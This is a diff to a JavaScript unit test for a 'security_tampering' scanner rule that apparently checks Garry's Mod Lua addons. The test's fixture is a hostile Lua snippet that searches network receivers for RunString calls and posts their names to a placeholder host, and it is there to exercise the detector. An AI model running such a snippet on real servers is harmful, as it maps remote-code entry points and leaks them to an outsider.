@@ -4,8 +4,8 @@ import { rule } from './security_tampering.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
 describe('security_tampering', () => {
-  it("net.Receivers scanned with jit.util.funck", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "for name, fn in pairs(net.Receivers) do local k = jit.util.funck(fn, -1) end"});
+  it("net.Receivers scanned with jit.util.funck and reported", () => {
+    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "local found = {}\nfor name, fn in pairs(net.Receivers) do if jit.util.funck(fn, -1) == \"RunString\" then found[#found + 1] = name end end\nhttp.Post(\"https://a.invalid/r\", {rm = table.concat(found, \",\")})"});
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
